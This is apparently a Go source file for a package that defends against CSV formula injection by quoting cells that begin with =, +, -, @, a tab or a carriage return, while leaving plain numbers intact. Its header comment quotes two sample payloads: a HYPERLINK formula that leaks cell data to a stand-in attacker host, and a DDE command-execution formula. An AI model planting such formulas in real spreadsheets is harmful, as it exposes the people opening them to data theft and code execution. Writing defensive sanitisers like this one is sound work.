// Package csvsafe neutralises cells of a CSV file that a spreadsheet
// program would run as a formula (CSV or formula injection): a name such
// as =HYPERLINK("https://evil.example/?"&A1) or =cmd|' /C calc'!A0 that
// reaches a file someone opens in Excel or LibreOffice.
//
// The rule, after OWASP's "CSV Injection": a cell that begins with =, +,
// -, @, a tab or a carriage return gets a single quote (') in front, which
// makes a spreadsheet program show the rest as text. One exception keeps
// numbers intact: a cell that is only a number (an optional sign, digits,
// and an optional fraction: -42, +47, -4.5) cannot hold a formula and is
// left alone. Values that start with a letter or a digit, such as person
// ids (1547-10234), dates (2026-12-04) and most names, are never changed.
// The quote becomes part of the value for a program that reads the file
// without a spreadsheet, so use it where people may open the file, and
// where the reader does not mind.
package csvsafe

// Cell returns s neutralised: s with a single quote in front when it
// begins with =, +, -, @, a tab or a carriage return and is not a plain
// number; s unchanged otherwise.
func Cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return "'" + s
	case '+', '-':
		if isNumber(s[1:]) {
			return s
		}
		return "'" + s
	}
	return s
}

// Row returns a copy of row with every cell neutralised by Cell.
func Row(row []string) []string {
	out := make([]string, len(row))
	for i, s := range row {
		out[i] = Cell(s)
	}
	return out
}

// isNumber says whether s is digits with an optional fraction: 42, 4.5.
func isNumber(s string) bool {
	digits, dot := 0, false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '.' && !dot && digits > 0 && i < len(s)-1:
			dot = true
		default:
			return false
		}
	}
	return digits > 0
}
